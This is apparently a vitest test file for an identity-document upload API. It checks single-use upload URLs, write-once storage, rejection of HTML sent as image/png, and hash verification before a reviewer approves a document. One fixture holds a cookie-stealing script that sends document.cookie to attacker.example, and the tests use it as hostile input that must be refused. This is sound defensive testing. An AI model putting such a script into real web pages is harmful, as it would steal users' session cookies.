import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LocalObjectStore } from '../../../platform/storage/local-store';
import { ObjectExistsError } from '../../../platform/storage/object-store';
import { createTestUser } from '../../../testing/factories';
import type { TestApp } from '../../../testing/platform';
import { sha256Hex } from '../files/file-checks';
import { auth, createIdentityTestApp, currentDocumentKey, keyOf, userIdOf } from '../identity.test-support';
import { png } from '../test-files';

/**
 * Issue 16, security 3: an approved identity document could be replaced through its upload URL.
 * Upload URLs are single-use and end at save, stored objects never change, uploads must be of the
 * type they declare, and the reviewer sees (and approval checks) the saved object's SHA-256.
 */
describe('identity document integrity', () => {
  let sut: TestApp;
  let admin: string;
  beforeAll(async () => {
    sut = await createIdentityTestApp();
    admin = (await createTestUser(sut.platform, { roles: [1] })).token;
  });
  afterAll(() => sut.close());

  const newUser = async () => (await createTestUser(sut.platform)).token;
  const request = (fileName: string, bytes: Uint8Array, type = 1) => ({
    FileName: fileName,
    Hash: sha256Hex(bytes),
    DocumentType: type,
  });
  const signedUrl = async (token: string, body: ReturnType<typeof request>) => {
    const res = await sut.app.inject({
      method: 'POST',
      url: '/api/UserDocument/SignedUrl',
      headers: auth(token),
      payload: body,
    });
    expect(res.statusCode).toBe(200);
    return res.json().data as { signedUrl: string; headers: Record<string, string> };
  };
  const put = (url: string, contentType: string, bytes: Uint8Array | string) =>
    sut.app.inject({
      method: 'PUT',
      url,
      headers: { 'content-type': contentType },
      payload: Buffer.from(bytes),
    });
  const save = (token: string, body: ReturnType<typeof request>) =>
    sut.app.inject({
      method: 'POST',
      url: '/api/UserDocument/SaveDocuments',
      headers: auth(token),
      payload: body,
    });
  const adminView = async (token: string) => {
    const res = await sut.app.inject({
      url: `/api/admin/identity/users/${userIdOf(token)}`,
      headers: auth(admin),
    });
    expect(res.statusCode).toBe(200);
    return res.json().data as {
      documents: { id: number; userTypeDocument: number; status: string; sha256: string }[];
    };
  };
  const html =
    '<html><body><script>fetch("https://attacker.example/?c="+document.cookie)</script></body></html>';

  it('refuses a second PUT to the same upload URL; the stored object stays as first written', async () => {
    const token = await newUser();
    const first = png(400, 300, 3);
    const up = await signedUrl(token, request('frente.png', first));
    expect((await put(up.signedUrl, 'image/png', first)).statusCode).toBe(200);
    const again = await put(up.signedUrl, 'image/png', png(400, 300, 4));
    expect(again.statusCode).toBe(403);
    expect(again.json().error.code).toBe('URL_USED');
    const stored = await sut.platform.storage.get(keyOf(up.signedUrl));
    expect(sha256Hex(stored!)).toBe(sha256Hex(first));
  });

  it('ends every open upload URL of the user at save: a PUT after SaveDocuments is refused', async () => {
    const token = await newUser();
    const bytes = png(420, 300, 5);
    const body = request('frente.png', bytes);
    const used = await signedUrl(token, body);
    const spare = await signedUrl(token, request('verso.png', png(420, 300, 6), 3));
    expect((await put(used.signedUrl, 'image/png', bytes)).statusCode).toBe(200);
    const saved = await save(token, body);
    expect(saved.statusCode).toBe(200);
    expect(saved.json().data.status).toBe('approved');

    const replaced = await put(used.signedUrl, 'image/png', png(420, 300, 7));
    expect(replaced.statusCode).toBe(403);
    const late = await put(spare.signedUrl, 'image/png', png(420, 300, 6));
    expect(late.statusCode).toBe(403);
    expect(late.json().error.code).toBe('URL_REVOKED');

    const view = await adminView(token);
    const doc = view.documents.find((d) => d.userTypeDocument === 1)!;
    expect(doc.status).toBe('approved');
    expect(doc.sha256).toBe(sha256Hex(bytes));
    const key = (await currentDocumentKey(sut.platform, token, 1))!;
    expect(key).not.toBe(keyOf(used.signedUrl));
    expect(sha256Hex((await sut.platform.storage.get(key))!)).toBe(doc.sha256);
  });

  it('refuses HTML sent as image/png, stores nothing, and leaves the URL for the real file', async () => {
    const token = await newUser();
    const bytes = png(400, 320, 8);
    const up = await signedUrl(token, request('frente.png', bytes));
    const refused = await put(up.signedUrl, 'image/png', html);
    expect(refused.statusCode).toBe(415);
    expect(refused.json().error.code).toBe('UNSUPPORTED_MEDIA_TYPE');
    expect(await sut.platform.storage.head(keyOf(up.signedUrl))).toBeUndefined();
    const asHtml = await put(up.signedUrl, 'text/html', html);
    expect(asHtml.statusCode).toBe(415);
    expect((await put(up.signedUrl, 'image/png', bytes)).statusCode).toBe(200);
  });

  it('shows the reviewer the hash of the saved object; approval verifies it against the object', async () => {
    const token = await newUser();
    const bytes = png(440, 300, 9);
    const body = request('frente-revisao.png', bytes);
    const up = await signedUrl(token, body);
    expect((await put(up.signedUrl, 'image/png', bytes)).statusCode).toBe(200);
    expect((await save(token, body)).json().data.status).toBe('pending');
    const doc = (await adminView(token)).documents.find((d) => d.userTypeDocument === 1)!;
    expect(doc.sha256).toBe(sha256Hex(bytes));

    const file = await sut.app.inject({
      url: `/api/admin/identity/documents/${doc.id}/file`,
      headers: auth(admin),
    });
    const download = await sut.app.inject({ url: file.json().data.url.replace(/^https?:\/\/[^/]+/, '') });
    expect(sha256Hex(download.rawPayload)).toBe(doc.sha256);

    // the object changed behind the store's back (a bucket writer): approval refuses it
    const key = (await currentDocumentKey(sut.platform, token, 1))!;
    const store = sut.platform.storage as LocalObjectStore;
    await writeFile(join(store.dir, key), Buffer.from(html));
    const review = (decision: 'approve' | 'reject') =>
      sut.app.inject({
        method: 'POST',
        url: `/api/admin/identity/documents/${doc.id}/review`,
        headers: auth(admin),
        payload: { decision, ...(decision === 'reject' ? { reason: 'arquivo alterado' } : {}) },
      });
    const approve = await review('approve');
    expect(approve.statusCode).toBe(409);
    expect(approve.json().error.code).toBe('DOCUMENT_CHANGED');
    expect((await adminView(token)).documents.find((d) => d.id === doc.id)!.status).toBe('pending');

    await writeFile(join(store.dir, key), Buffer.from(bytes));
    const approved = await review('approve');
    expect(approved.statusCode).toBe(200);
    const after = approved.json().data.documents.find((d: { id: number }) => d.id === doc.id);
    expect(after).toMatchObject({ status: 'approved', sha256: sha256Hex(bytes) });
  });

  it('writes a key once: the store refuses to overwrite an object', async () => {
    const key = `identity/${userIdOf(await newUser())}/documents/1/imutavel.png`;
    await sut.platform.storage.put(key, png(), 'image/png');
    await expect(sut.platform.storage.put(key, Buffer.from(html), 'image/png')).rejects.toBeInstanceOf(
      ObjectExistsError,
    );
    expect(sha256Hex((await sut.platform.storage.get(key))!)).toBe(sha256Hex(png()));
  });
});
